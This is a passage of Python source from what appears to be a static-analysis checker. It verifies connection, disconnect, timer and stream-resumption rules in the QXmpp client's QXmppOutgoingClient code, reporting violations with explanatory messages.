        if n['k'] == 'call' and f.cname(n) in (OC + '::closeSession', OCP + '::connectToNextAddress', OCP + '::connectToHost'):
            return st + (f.cname(n).split('::')[-1],)
        return None
    for established in (False, True):
        def custom(f, nid, st, established=established):
            n = f.nodes[nid]
            if n['k'] == 'mem' and n.get('f') == session_flag:
                return (established,)
            if established and startup_only:
                bo = f.binop(nid)
                if bo and bo[0] == '==' and any(f.nodes[f.skip(x)].get('f') in {r[0] for r in retry_fields} for x in bo[1:]):
                    return (False,)
            return None
        ev = cfgx.Evaluator(sd, {}, custom=custom)
        exits, _ = cfgx.explore(sd, (), transfer, lambda f, c, st: ev.ev(c, st))
        run.paths += len(exits)
        for st, path in exits.items():
            run.instance(rid)
            acts = [x for x in st if x != 'unauth']
            closes = 'closeSession' in acts
            retries = [x for x in acts if x != 'closeSession']
            ok = 'unauth' in st and len(retries) <= 1 and len(acts) >= 1 and acts.count('closeSession') <= 1
            if established:
                # an established session never survives the loss of its connection: it is closed, and closed before any new attempt starts
                ok = ok and closes and acts[0] == 'closeSession'
                what = 'established session: closed%s' % (', then ' + retries[0] if retries else '')
            else:
                ok = ok and len(acts) == 1
                what = 'no session yet: %s' % (acts[0] if acts else '-')
            if ok:
                run.ok(rid, sd.loc(), 'disconnect path (%s): isAuthenticated cleared' % what)
            else:
                run.violation(rid, '_q_socketDisconnected#%s#path:%s' % ('established' if established else 'startup', '-'.join(st)), sd.loc(),
                              'a disconnect path %s does %s (expected: clear isAuthenticated; with an established session close it before anything else, otherwise exactly one '
                              'of retry / closeSession): %s' % ('with an established session' if established else 'during start-up', list(st) or 'nothing',
                                                                'the client keeps reporting an open session - isConnected() is true as soon as the next TCP connection exists, '
                                                                'disconnected() is never emitted' if established and not closes else 'unexpected shape'),
                              cfgx.describe_path(sd, path))
    cs = prog.fn(OC + '::closeSession')
    run.instance(rid)
    need = {'sessionStarted=false': False, NS + 'StreamAckManager::onSessionClosed': False, NS + 'OutgoingIqManager::onSessionClosed': False, OC + '::disconnected': False}

    def always(nid):
        pos = cs.pos(nid)
        return bool(pos) and (pos[0] == cs.entry or ('b', pos[0]) in cs.pdom().get(('b', cs.entry), set()))
    for i, n in cs.all_nodes('assign'):
        if cs.nodes[cs.skip(n['l'])].get('f') == session_flag and cs.const_value(n['r']) == ('bool', False) and always(i):
            need['sessionStarted=false'] = True
    for i, n in cs.calls():
        if cs.cname(n) in need and always(i):
            need[cs.cname(n)] = True
    if all(need.values()):
        run.ok(rid, cs.loc(), 'closeSession: clears sessionStarted, notifies ack and IQ managers, emits disconnected — on every path')
    else:
        run.violation(rid, 'closeSession#incomplete', cs.loc(), 'closeSession no longer does: %s' % [k.split('::')[-1] for k, v in need.items() if not v])


def _must_call_deep(prog, fn, callee_q, byid, depth=0, seen=None):
    """fn calls callee_q on every path, directly or inside a callee that is itself called on every path"""
    seen = seen if seen is not None else set()
    if fn.id in seen or depth > 3:
        return False
    seen.add(fn.id)

    def always(nid):
        pos = fn.pos(nid)
        return bool(pos) and (pos[0] == fn.entry or ('b', pos[0]) in fn.pdom().get(('b', fn.entry), set()))
    for i, n in fn.calls():
        if not always(i):
            continue
        if fn.cname(n) == callee_q:
            return True
        for g in prog.callee_fns(fn, n):
            if g.id in byid and _must_call_deep(prog, g, callee_q, byid, depth + 1, seen):
                return True
    return False


def _only_from_continuations(prog, g, allowed, depth=0):
    """g is a named helper that is called only from continuations (lambdas) inside the allowed functions - directly or through one more such helper:
    the body of a continuation moved into a member function (onSaslAuthFinished(result)) is still that continuation"""
    if depth > 2 or g.is_lambda:
        return False
    sites = [(c, ci) for c, ci in prog.callers().get(g.id, [])]
    if not sites or any(c.nodes[ci]['k'] != 'call' for c, ci in sites):
        return False
    for c, ci in sites:
        top = top_function(prog, c)
        if c.is_lambda and top.qname in allowed:
            continue
        if not c.is_lambda and _only_from_continuations(prog, c, allowed, depth + 1):
            continue
        return False
    return True


def r4(prog, run):
    rid = run.rule('C10.R4', 'every new stream makes the client itself the element listener and resets the stream management negotiation state', floor=2)
    hs = prog.fn(OC + '::handleStart')
    fns, byid = _scope(prog)
    run.instance(rid)
    # the listener is reset on every path (directly or in a helper executed on every path), and what is assigned is the client itself
    ok = _must_reset(prog, hs, OCP + '::listener', byid)
    self_assigned = False
    for g in fns:
        for i, n in g.all_nodes('assign'):
            if g.nodes[g.skip(n['l'])].get('f') == OCP + '::listener':
                r = g.nodes[g.skip(n['r'])]
                if r['k'] == 'this' or (r['k'] == 'mem' and 'QXmppOutgoingClient *' in (r.get('t') or '')):
                    top = g
                    if _must_call_deep(prog, hs, top.qname, byid) or top.id == hs.id:
                        self_assigned = True
    if ok and self_assigned:
        run.ok(rid, hs.loc(), 'handleStart: the client becomes the listener on every path')
    else:
        run.violation(rid, 'handleStart#listener', hs.loc(), 'a new stream keeps the previous listener (a stale authentication manager would see the new stream)')
    run.instance(rid)
    if _must_call_deep(prog, hs, NS + 'C2sStreamManager::onStreamStart', byid):
        run.ok(rid, hs.loc(), 'handleStart: C2sStreamManager::onStreamStart() on every path')
    else:
        run.violation(rid, 'handleStart#onStreamStart', hs.loc(), 'stream management negotiation state is not reset for a new stream')


def r5(prog, run):
    rid = run.rule('C10.R5', 'a deliberate disconnect tells the stream manager that the stream is closed (no resumption) before the socket is closed: closing the socket '
                             'runs the session-end handlers synchronously, and they decide from canResume() whether outstanding requests are cancelled', floor=1)
    f = prog.fn(OC + '::disconnectFromHost')

    def event_of(g, nid):
        n = g.nodes[nid]
        if n['k'] == 'call':
            cn = g.cname(n)
            if cn.endswith('C2sStreamManager::onStreamClosed'):
                return 'closed'
            if cn.endswith('XmppSocket::disconnectFromHost'):
                return 'sock'
        return None
    # effect sequences over all paths, helpers of the same file inlined with their constant arguments (closeStream(false) ...)
    seqs = cfgx.effect_sequences(prog, f, event_of)
    if not any('sock' in q for q in seqs):
        raise AnalysisBroken('C10.R5: QXmppOutgoingClient::disconnectFromHost no longer closes the socket')
    run.instance(rid)
    bad = [q for q in seqs if 'sock' in q and 'closed' not in q[:q.index('sock')]]
    if not bad:
        run.ok(rid, f.loc(), 'onStreamClosed() precedes socket.disconnectFromHost() on every path (%s)' % sorted(seqs))
    else:
        run.violation(rid, 'disconnectFromHost#order', f.loc(),
                      'the socket is closed before the stream manager learns that the stream was closed deliberately (effect order %s): the session-end handlers still see a resumable '
                      'stream, keep the outstanding requests, and resumability is dropped right afterwards - the requests are neither completed nor resumable' % list(bad[0]))


def r6(prog, run):
    rid = run.rule('C10.R6', 'every timer that the connection / negotiation code starts is stopped when the connection is lost: a stop() of that timer is executed from the '
                             'socket-disconnected handler (directly, in a callee, or in a slot or lambda connected to a signal that handler emits); a timer that keeps running '
                             'fires into a disconnected client', floor=2)
    from ..callgraph import connects
    fns, byid = _scope(prog)
    starts, stops = defaultdict(list), defaultdict(list)
    for f in fns:
        for i, n in f.calls():
            cn = f.cname(n)
            if cn in ('QTimer::start', 'QTimer::stop') and n.get('obj') is not None:
                o = f.nodes[f.skip(n['obj'])]
                if o['k'] == 'mem':
                    (starts if cn == 'QTimer::start' else stops)[o['f']].append((f, i))
    if not starts:
        raise AnalysisBroken('C10.R6: no QTimer member started in the outgoing-client units (pingTimer / timeoutTimer expected)')
    # everything that runs when the socket reports the disconnect: callees, lambdas, and slots/lambdas connected to the signals emitted on the way
    by_signal = defaultdict(list)
    for c in connects(prog, fns):
        sq = (c['signal'] or {}).get('qname')
        if c['kind'] == 'lambda':
            by_signal[sq] += list(c['target'])
        elif c['kind'] == 'slot':
            g = prog.fns.get(c['target'].get('usr'))
            if g is not None:
                by_signal[sq].append(g)
    root = prog.fn(OC + '::_q_socketDisconnected')
    seen, work = set(), [root]
    while work:
        f = work.pop()
        if f.id in seen:
            continue
        seen.add(f.id)
        work += prog.lambdas_of.get(f.id, []) if not f.is_lambda or True else []
        for i, n in f.calls():
            sy = f.sym(n) or {}
            if sy.get('signal'):
                work += by_signal.get(sy.get('qname'), [])
            for g in prog.callee_fns(f, n):
                if g.id in byid:
                    work.append(g)
    for fld in sorted(starts):
        run.instance(rid)
        hit = [(f, i) for f, i in stops.get(fld, []) if f.id in seen]
        f0, i0 = starts[fld][0]
        if hit:
            run.ok(rid, hit[0][0].loc(hit[0][1]), '%s is stopped on the connection-lost path' % fld.split('::')[-1])
        else:
            run.violation(rid, 'timer#%s#survives-connection-loss' % fld.split('::')[-1], f0.loc(i0),
                          '%s is started here but no stop() of it runs when the socket reports the disconnect: it fires later into a disconnected client (spurious error, '
                          'state reset behind the back of a pending resumption)' % fld)


# --------------------------------------------------------------------------- R8: what the disconnect handler decides on is in place before the socket is closed
def r8(prog, run):
    from ..effects import classify_use
    rid = run.rule('C10.R8', 'closing the socket runs the socket-disconnected handler synchronously; the members that handler branches on (try the next address, follow a redirect, '
                             'close the session) are therefore written before the socket is closed, never after it: a value stored afterwards is missed by this disconnect and '
                             'misdirects the next one', floor=1)
    h = prog.fn(OC + '::_q_socketDisconnected')
    inputs = set()

    def members_in(x, depth=0):
        for j in h.walk(x):
            m = h.nodes[j]
            if m['k'] == 'mem' and (m.get('f') or '').startswith(OCP + '::'):
                inputs.add(m['f'])
            if m['k'] == 'var' and m.get('vk') == 'local' and depth < 3:        # a condition held in a named flag
                d_ = h.single_def(m.get('decl'))
                if d_ is not None:
                    members_in(d_, depth + 1)
    for b in h.blocks.values():
        t = b.get('term')
        if t and 'cond' in t:
            members_in(t['cond'])
    inputs -= {OCP + '::q'}
    if not inputs:
        raise AnalysisBroken('C10.R8: the socket-disconnected handler no longer branches on members of the private')
    run.extra['disconnect_decision_inputs'] = sorted(inputs)

    def event_of(g, nid):
        n = g.nodes[nid]
        if n['k'] == 'call' and (g.cname(n) or '').endswith('XmppSocket::disconnectFromHost'):
            return 'sock'
        if n['k'] == 'mem' and n.get('f') in inputs and classify_use(g, nid)[0] == 'write':
            return 'w:' + n['f'].split('::')[-1]
        return None
    nfn = 0
    for f in prog.fns.values():
        if f.entry is None or not f.file.endswith('QXmppOutgoingClient.cpp') or f.id == h.id:
            continue
        if f.is_lambda or not any(n['k'] == 'mem' and n.get('f') in inputs and classify_use(f, i)[0] == 'write' for i, n in enumerate(f.nodes)):
            continue
        seqs = cfgx.effect_sequences(prog, f, event_of)          # same-file helpers (closeStream(...)) are inlined
        if not any('sock' in q for q in seqs):
            continue
        nfn += 1
        run.instance(rid)
        bad = [q for q in seqs if 'sock' in q and any(e.startswith('w:') for e in q[q.index('sock') + 1:])]
        if bad:
            late = [e for e in bad[0][bad[0].index('sock') + 1:] if e.startswith('w:')][0]
            run.violation(rid, '%s#written-after-close:%s' % (f.outer_name(), late[2:]), f.loc(),
                          '%s closes the socket and stores %s afterwards (effect order %s): the socket-disconnected handler has already run inside the close without it, and the '
                          'stale value decides what happens at the next disconnect' % (f.display()[:50], late[2:], list(bad[0])))
        else:
            run.ok(rid, f.loc(), 'decision inputs are written before the socket is closed (%s)' % sorted(seqs)[:3])
    if not nfn:
        raise AnalysisBroken('C10.R8: no function both stores a decision input of the disconnect handler and closes the socket (handleStreamError expected)')


# --------------------------------------------------------------------------- R9: resumable only when the server said so
def r9(prog, run):
    rid = run.rule('C10.R9', 'the stream counts as resumable only when the server granted resumption: every value stored in the member canResume() reports is false whenever the '
                             'resume flag of the received <enabled/> is false (evaluated with that flag bound to false), so a cut connection is not kept "resumable" - with its '
                             'outstanding requests retained and a <resume/> sent on the next attempt - for a session the server never agreed to resume', floor=2)
    getter = prog.fn(NS + 'C2sStreamManager::canResume')
    fld = None
    for _, r in getter.returns():
        if 'e' in r:
            m = getter.nodes[getter.skip(r['e'])]
            if m['k'] == 'mem':
                fld = m['f']
    if fld is None:
        raise AnalysisBroken('C10.R9: C2sStreamManager::canResume() no longer returns a member')
    rec = prog.record(NS + 'SmEnabled')
    flag = [fl for fl in rec['fields'] if fl.get('t') == 'bool']
    if len(flag) != 1:
        raise AnalysisBroken('C10.R9: the resume flag of SmEnabled was not identified')
    flagq = flag[0].get('qname') or NS + 'SmEnabled::' + flag[0]['name']
    nw = 0

    def value_under_no_grant(f, expr):
        def custom(g, nid, st):
            n = g.nodes[nid]
            if n['k'] == 'mem' and n.get('f') == flagq:
                return (False,)
            return None
        return cfgx.Evaluator(f, {}, custom=custom, prog=prog).ev(expr)
    sites = []          # (function, node to report, expression evaluated in function)
    for f in prog.fns.values():
        if f.entry is None or '/src/client/' not in f.file:
            continue
        for i, n in f.all_nodes('assign'):
            if f.nodes[f.skip(n['l'])].get('f') != fld or n.get('op') != '=':
                continue
            r = f.nodes[f.resolve(n['r'])]
            if r['k'] == 'var' and r.get('vk') == 'param':
                # a setter: what its callers hand in
                cs = [(c, ci) for c, ci in prog.callers().get(f.id, []) if c.nodes[ci]['k'] == 'call' and r.get('pidx') is not None and r['pidx'] < len(c.nodes[ci].get('args', []))]
                if not cs:
                    sites.append((f, i, n['r']))
                for c, ci in cs:
                    sites.append((c, ci, c.nodes[ci]['args'][r['pidx']]))
            else:
                sites.append((f, i, n['r']))
    for f, i, expr in sites:
        nw += 1
        run.instance(rid)
        v = value_under_no_grant(f, expr)
        if v is False:
            run.ok(rid, f.loc(i), '%s <- %s is false without the server\'s resume flag' % (fld.split('::')[-1], f.fmt(expr)[:50]), nontrivial=f.const_value(expr) is None)
        else:
            run.violation(rid, '%s#resumable-without-grant' % f.outer_name(), f.loc(i),
                          '%s stores %s in %s: with resume absent / false in the server\'s <enabled/> this is %s, so the session is treated as resumable although the server '
                          'did not grant resumption' % (f.display()[:50], f.fmt(expr, inline=False)[:60], fld.split('::')[-1], 'not false' if v is None else v))
    if nw < 2:
        raise AnalysisBroken('C10.R9: writes of %s not found' % fld)


# --------------------------------------------------------------------------- R11: the resumption address is only offered while resumption is possible
def r11(prog, run):
    rid = run.rule('C10.R11', 'the predicate that lets connectToHost() prefer the stream-management resumption address over the configured server is false whenever the stream cannot be '
                              'resumed (evaluated with the member canResume() reports bound to false): a location kept from an earlier, no longer resumable session must not redirect '
                              'the next attempt', floor=1)
    getter = prog.fn(NS + 'C2sStreamManager::canResume')
    flag = None
    for _, r in getter.returns():
        if 'e' in r and getter.nodes[getter.skip(r['e'])]['k'] == 'mem':
            flag = getter.nodes[getter.skip(r['e'])]['f']
    if flag is None:
        raise AnalysisBroken('C10.R11: canResume() no longer returns a member')
    # the predicate: the bool member function of the stream manager that the connect code tests before it asks for resumeAddress()
    cth = prog.fn(OC + '::connectToHost')
    preds = []
    for b in cth.blocks.values():
        t = b.get('term')
        if t and t.get('cond') is not None:
            for j in cth.walk(t['cond']):
                m = cth.nodes[j]
                if m['k'] == 'call' and ((cth.sym(m) or {}).get('record') or '').endswith('C2sStreamManager') and (m.get('t') or '') == 'bool':
                    preds += [g for g in prog.callee_fns(cth, m) if g.entry is not None]
    if not preds:
        raise AnalysisBroken('C10.R11: connectToHost() no longer tests a predicate of the stream manager before using the resumption address')
    for g in preds:
        run.instance(rid)

        def custom(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'mem' and n.get('f') == flag:
                return (False,)
            if n['k'] == 'call' and (f.cname(n) or '') == NS + 'C2sStreamManager::canResume':
                return (False,)
            return None
        ev = cfgx.Evaluator(g, {}, custom=custom, prog=prog)
        reach = cfgx.reachable_blocks(g, lambda f, c, st: ev.ev(c, st))          # only the returns that can be reached while the stream is not resumable
        vals = [ev.ev(r['e']) for i, r in g.returns() if 'e' in r and g.pos(i) and g.pos(i)[0] in reach]
        if vals and all(v is False for v in vals):
            run.ok(rid, g.loc(), '%s() is false while the stream cannot be resumed' % g.name)
        else:
            run.violation(rid, '%s#ignores-resumability' % g.qname.split('::')[-1], g.loc(),
                          '%s() can be true although the stream cannot be resumed (canResume false): connectToHost() then connects to a resumption address stored for an earlier '
                          'session instead of the configured server' % g.name)
